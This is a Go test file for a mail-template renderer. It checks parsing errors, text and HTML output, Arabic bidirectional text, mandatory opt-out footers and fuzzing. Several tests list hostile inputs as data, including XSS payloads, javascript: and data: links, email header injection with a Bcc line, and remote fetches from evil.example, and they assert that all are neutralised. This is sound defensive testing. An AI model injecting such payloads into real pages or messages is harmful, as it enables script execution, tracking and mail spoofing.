package mail

import (
	"errors"
	"strings"
	"testing"

	"mujeeb/text/fold"

	"golang.org/x/net/html"
)

func TestParseTemplate_Refused(t *testing.T) {
	tests := []struct {
		name, subject, markdown, lang string
		want                          TemplateError
	}{
		{"no subject", "  ", "x", "en", TemplateError{Code: TemplateNoSubject}},
		{"no text", "s", " \n", "en", TemplateError{Code: TemplateNoText}},
		{"two lines", "s\r\nBcc: x@y.com", "x", "en", TemplateError{Code: TemplateSubjectLines}},
		{"unknown field", "s", "one\n\ntwo {{nmae}}", "en", TemplateError{Code: TemplateUnknownField, Field: "nmae", Line: 3}},
		{"unknown in subject", "s {{x}}", "one", "en", TemplateError{Code: TemplateUnknownField, Field: "x"}},
		{"code as a field", "s", "{{index .x 1}}", "en", TemplateError{Code: TemplateUnknownField, Field: "index .x 1", Line: 1}},
		{"open braces", "s", "a\n{{name", "en", TemplateError{Code: TemplateBraces, Line: 2}},
		{"braces over lines", "s", "{{na\nme}}", "en", TemplateError{Code: TemplateBraces, Line: 1}},
		{"single braces", "s", "{{name}}\n\nhello { First_Name | you }", "en", TemplateError{Code: TemplateBraces, Line: 3}},
		{"empty braces", "s", "{{ }}", "en", TemplateError{Code: TemplateBraces, Line: 1}},
		{"language", "s", "x", `en" onload="x`, TemplateError{Code: TemplateLanguage}},
		{"too long", "s", strings.Repeat("x", maxMarkdown+1), "en", TemplateError{Code: TemplateTooLong}},
		{"not UTF-8", "s", "x\xff", "en", TemplateError{Code: TemplateNotUTF8}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ParseTemplate(tt.subject, tt.markdown, tt.lang, testFields)
			if got, ok := errors.AsType[*TemplateError](err); !ok || *got != tt.want {
				t.Errorf("got %v, want %v", err, &tt.want)
			}
		})
	}
}

const englishMarkdown = `# Hello {{first_name|friend}}

We have **20% off** until *Friday*.
Come to [our shop](https://example.com/shop?who={{email}}) or see https://example.com.

1. rye
2. spelt
   - dark
   - light

> Best in town
> by far

![loaf](https://example.com/loaf.jpg), <hi@example.com>, write to [us](mailto:us@example.com?subject=x)

---

See you, {{page}} &copy; \*2026`

func TestTemplate_RenderTextReadsWell(t *testing.T) {
	tpl := mustTemplate(t, "Fresh bread, {{first_name|friend}}!", englishMarkdown, "en")
	c := mustRender(t, tpl, map[string]string{"first_name": "  Ann \n", "email": "ann+x@example.org", "page": "Nadia"}, campaignFooter(t))
	if c.Subject != "Fresh bread, Ann!" {
		t.Errorf("subject %q", c.Subject)
	}
	want := `Hello Ann
========

We have *20% off* until Friday.
Come to our shop (https://example.com/shop?who=ann%2Bx%40example.org) or see https://example.com.

1. rye
2. spelt
   - dark
   - light

> Best in town
> by far

loaf (https://example.com/loaf.jpg), hi@example.com, write to us (us@example.com)

--------------------

See you, Nadia © *2026

--------------------
Nadia's Bakery
1 Mill Lane, Cork

You know Nadia's Bakery.
To stop, open ` + testOptOut(t).URL + `
or write “unsubscribe ` + testTokens().Make(TokenOptOut, 2731) + `” to page+news@example.com
`
	if c.Text != want {
		t.Errorf("got:\n%s\nwant:\n%s", c.Text, want)
	}
}

func TestTemplate_RenderArabic(t *testing.T) {
	tpl := mustTemplate(t, "مرحبًا {{name}}", "أهلًا {{name}}، هاتفك {{phone}}.\n\nThis line is English.", "ar")
	c := mustRender(t, tpl, map[string]string{"name": "ليلى", "phone": "+353 1 234"}, arabicFooter(t))
	if n := strings.Count(c.HTML, `lang="ar" dir="rtl"`); n != 3 {
		t.Errorf("language and direction stand %d times, want on html, outermost and inner table", n)
	}
	for _, want := range []string{"<bdi>ليلى</bdi>", "<bdi>&#43;353 1 234</bdi>", "text-align:right", "يكفي؟ <a ", ">إيقاف</a>", `<p dir="ltr"`} {
		if !strings.Contains(c.HTML, want) {
			t.Errorf("HTML lacks %q", want)
		}
	}
	for _, want := range []string{"\u2068+353 1 234\u2069", "أنت تعرف \u2068Nadia's Bakery\u2069.", "للإيقاف افتح https://"} {
		if !strings.Contains(c.Text, want) {
			t.Errorf("text lacks %q:\n%s", want, c.Text)
		}
	}
	plain := mustTemplate(t, "x", "Hi {{name}}", "en")
	if c := mustRender(t, plain, map[string]string{"name": "Ann"}, campaignFooter(t)); !fold.IsASCII(strings.Split(c.Text, "\n")[0]) {
		t.Errorf("a plain name is isolated for no reason: %q", c.Text)
	}
	if c := mustRender(t, plain, map[string]string{"name": "ليلى"}, campaignFooter(t)); !strings.HasPrefix(c.Text, "Hi \u2068ليلى\u2069\n") {
		t.Errorf("a name that runs the other way isn't isolated: %q", c.Text)
	}
}

// hostile values and authors must not get a tag, an attribute, a script link, a
// second line or a template action through.
func TestTemplate_HostileInput(t *testing.T) {
	const markdown = `<script>alert(1)</script> <b onclick="x">bold</b>
Hello {{name}}, [a](javascript:alert(1)) [b]({{page}}) [c](https://example.com/{{name}}?q={{name}})
[d](data:text/html,x) ![e](http://tracker.example/p.gif) {\{ x }} &#123;&#123;.f0&#125;&#125; ` + "`{\u200b{`"
	tpl := mustTemplate(t, "{{name}}", markdown, "en")
	values := []string{
		`<img src=x onerror=alert(1)>`, `"><script>alert(1)</script>`, "a\r\nBcc: evil@example.com\r\n\r\nbody", "{{.f0}}{{template \"page\"}}",
		"javascript:alert(1)", "' onmouseover='x", "\u202egnp.exe", "&lt;b&gt;", "\x00\x1b[31m", "**bold** [x](https://evil.example)",
	}
	for _, v := range values {
		c := mustRender(t, tpl, map[string]string{"name": v, "page": v}, campaignFooter(t))
		if strings.ContainsAny(c.Subject, "\r\n\x00\x1b\u202e") || strings.ContainsAny(c.Text, "\r\x00\x1b\u202e") {
			t.Errorf("%q: control characters in %q or the text", v, c.Subject)
		}
		wantHarmless(t, v, c.HTML)
	}
}

// What a message may not hold, in all the ways of writing it that somebody
// thought of. Nothing is fetched when it is opened, and no link runs anything.
func TestTemplate_HostileMarkdown(t *testing.T) {
	for _, markdown := range []string{
		"<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "a <img src=x onerror=alert(1)> b", "<svg onload=alert(1)>",
		"<a href=\"javascript:alert(1)\" onclick=x>y</a>", "<iframe src=https://evil.example></iframe>", "<style>*{background:url(//evil.example)}</style>",
		"<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example>", "<form action=//evil.example><input>",
		"<!-- --><script>x</script>", "<div style=\"background:url(//evil.example/p.gif)\">x</div>",
		"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#115;cript:alert(1))", "[x](java\tscript:alert(1))", "[x](<java\nscript:alert(1)>)", "[x](\x01javascript:x)",
		"[x](vbscript:x)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x][y]\n\n[y]: javascript:alert(1)", "<javascript:alert(1)>", "<data:text/html,x>",
		"![x](https://evil.example/p.gif)", "![{{name}}](https://evil.example/{{email}}.gif)", "![x](data:image/svg+xml,<svg onload=x>)", "![][p]\n\n[p]: https://evil.example/p.gif",
		"[x](https://example.com/\" onmouseover=\"alert(1))", "[x](https://example.com/ \"t\\\" onmouseover=alert(1)\")", "[x]({{name}})", "[x]({{name}}:alert(1))", "[{{name}}](https://example.com/{{name}})",
		"`<script>`", "```html\n<script>alert(1)</script>\n```", "    <script>alert(1)</script>", "# <img src=x>", "> <b onclick=x>", "- <script>x</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "{\u200b{ .x }}",
	} {
		tpl := mustTemplate(t, "s", markdown, "en")
		for _, value := range []string{"javascript:alert(1)", "<script>alert(1)</script>", "x\" onerror=\"y"} {
			c := mustRender(t, tpl, map[string]string{"name": value, "email": value}, campaignFooter(t))
			wantHarmless(t, markdown+" with "+value, c.HTML)
			if strings.ContainsAny(c.Text, "\x00\x01\r") {
				t.Errorf("%q: control characters in the text", markdown)
			}
		}
	}
}

func wantHarmless(t *testing.T, value, page string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		kind := z.Next()
		if kind == html.ErrorToken {
			return
		}
		token := z.Token()
		switch token.Data {
		case "script", "img", "iframe", "object", "embed", "form", "input", "style", "link", "base", "svg", "video", "audio":
			if kind != html.TextToken {
				t.Errorf("%q: got a <%s>", value, token.Data)
			}
		}
		for _, a := range token.Attr {
			if strings.HasPrefix(a.Key, "on") {
				t.Errorf("%q: got attribute %s=%s", value, a.Key, a.Val)
			}
			if a.Key == "href" && !safeScheme.MatchString(a.Val) && !strings.HasPrefix(a.Val, "#") {
				t.Errorf("%q: link to %s", value, a.Val)
			}
			if a.Key == "src" || a.Key == "srcset" || a.Key == "background" || a.Key == "action" || a.Key == "http-equiv" || a.Key == "style" && strings.Contains(a.Val, "url") {
				t.Errorf("%q: something is fetched: %s", value, a.Val)
			}
		}
	}
}

func TestTemplate_MissingAndFallback(t *testing.T) {
	tpl := mustTemplate(t, "s", "{{name}} {{First_Name| dear friend }} {{phone|}}", "en")
	if _, err := tpl.Render(map[string]string{"first_name": "x"}, campaignFooter(t)); err == nil {
		t.Fatal("a missing field passes")
	} else if e, ok := errors.AsType[*TemplateError](err); !ok || e.Code != TemplateMissing || e.Field != "name" {
		t.Errorf("got %v", err)
	}
	c := mustRender(t, tpl, map[string]string{"name": ""}, campaignFooter(t))
	if !strings.HasPrefix(c.Text, " dear friend") && !strings.HasPrefix(strings.TrimSpace(c.Text), "dear friend") {
		t.Errorf("got %q", c.Text)
	}
	want := []Field{{"name", "", false}, {"first_name", "dear friend", true}, {"phone", "", true}}
	for i, f := range tpl.Fields() {
		if f != want[i] {
			t.Errorf("field %d: got %+v, want %+v", i, f, want[i])
		}
	}
}

func TestTemplate_FooterCannotBeLeftOut(t *testing.T) {
	tpl := mustTemplate(t, "s", "x", "en")
	tests := []struct {
		name   string
		footer Footer
		want   TemplateCode
	}{
		{"nothing", Footer{}, FooterNoSender},
		{"no sender", Footer{Class: Campaign, OptOut: testOptOut(t), Words: testWords}, FooterNoSender},
		{"no words", Footer{Class: Campaign, Sender: "N", OptOut: testOptOut(t)}, FooterNoWords},
		{"a notice without words", Footer{Class: LegalNotice, Sender: "N"}, FooterNoWords},
		{"no way out", Footer{Class: Campaign, Sender: "N", Words: testWords}, FooterNoOptOut},
		{"class unknown", Footer{Sender: "N", Words: testWords}, FooterNoOptOut},
		{"http", Footer{Class: Campaign, Sender: "N", Words: testWords, OptOut: OptOut{URL: "http://example.com/u"}}, FooterBadOptOut},
		{"script", Footer{Class: Campaign, Sender: "N", Words: testWords, OptOut: OptOut{URL: "javascript:x"}}, FooterBadOptOut},
		{"no address", Footer{Class: Campaign, Sender: "N", Words: testWords, OptOut: OptOut{Mail: "mailto:x"}}, FooterBadOptOut},
		{"two addresses", Footer{Class: Campaign, Sender: "N", Words: testWords, OptOut: OptOut{Mail: "mailto:a@example.com,b@example.com"}}, FooterBadOptOut},
		{"line end", Footer{Class: Campaign, Sender: "N", Words: testWords, OptOut: OptOut{URL: "https://example.com/\r\nX: y"}}, FooterBadOptOut},
	}
	for _, tt := range tests {
		_, err := tpl.Render(nil, tt.footer)
		if e, ok := errors.AsType[*TemplateError](err); !ok || e.Code != tt.want {
			t.Errorf("%s: got %v, want %s", tt.name, err, tt.want)
		}
	}
	mailOnly := campaignFooter(t)
	mailOnly.OptOut.URL = ""
	c := mustRender(t, tpl, nil, mailOnly)
	if !strings.Contains(c.HTML, `<a href="mailto:page&#43;`) && !strings.Contains(c.HTML, `<a href="mailto:page+`) {
		t.Errorf("no opt-out link in:\n%s", c.HTML)
	}
	legal := mustRender(t, tpl, nil, Footer{Class: LegalNotice, Sender: "N", OptOut: testOptOut(t), Words: testWords})
	if strings.Contains(legal.HTML+legal.Text, testOptOut(t).URL) || !strings.Contains(legal.Text, "legal notice from N") {
		t.Errorf("a legal notice carries no opt-out:\n%s", legal.Text)
	}
}

func TestTemplate_MarksOutlastMarkdown(t *testing.T) {
	const markdown = "**{{name}}** _{{name}}_ `{{name}}` x{{name}}x {{name}}{{name}}\n\n# {{name}}\n\n- {{name}}\n\n> {{name}}\n\n" +
		"[{{name}}](https://example.com/{{name}})\n\n```\n{{name}}\n```\n\n<https://example.com/?{{name}}>"
	c := mustRender(t, mustTemplate(t, "{{name}}", markdown, "en"), map[string]string{"name": "VALUE"}, campaignFooter(t))
	for part, s := range map[string]string{"HTML": c.HTML, "text": c.Text} {
		if n := strings.Count(s, "VALUE"); n < 13 {
			t.Errorf("%s: the value stands %d times:\n%s", part, n, s)
		}
		if strings.Contains(s, "mf0") || strings.Contains(s, "{{") || strings.Contains(s, "n0000") {
			t.Errorf("%s: a mark is left:\n%s", part, s)
		}
	}
}

func FuzzTemplate(f *testing.F) {
	f.Add("Hi {{name}}", englishMarkdown, "Ann")
	f.Add("Hi", arabicMarkdown, "<b>")
	f.Add("{{name}}", "[x]({{name}}) ![{{name}}](x) `{{name}}` {{name|a}}", "javascript:alert(1)")
	f.Add("a", "[x]({{name}})", "a/b:c")
	f.Add("a", "> > > - 1. {\\{", "\u2069{{.f0}}")
	f.Fuzz(func(t *testing.T, subject, markdown, value string) {
		tpl, err := ParseTemplate(subject, markdown, "en", testFields)
		if err != nil {
			if !isType[*TemplateError](err) {
				t.Fatalf("untyped error %v", err)
			}
			return
		}
		fields := map[string]string{}
		for _, name := range testFields {
			fields[name] = value
		}
		c, err := tpl.Render(fields, campaignFooter(t))
		if err != nil {
			t.Fatalf("Render: %v", err)
		}
		wantHarmless(t, value, c.HTML)
		if strings.ContainsAny(c.Subject, "\r\n") {
			t.Fatalf("subject %q", c.Subject)
		}
	})
}

func BenchmarkTemplate_Render(b *testing.B) {
	tpl := mustTemplate(b, "Fresh bread, {{first_name|friend}}!", englishMarkdown, "en")
	fields := map[string]string{"first_name": "Ann", "email": "ann@example.org", "page": "Nadia"}
	footer := campaignFooter(b)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := tpl.Render(fields, footer); err != nil {
			b.Fatal(err)
		}
	}
}
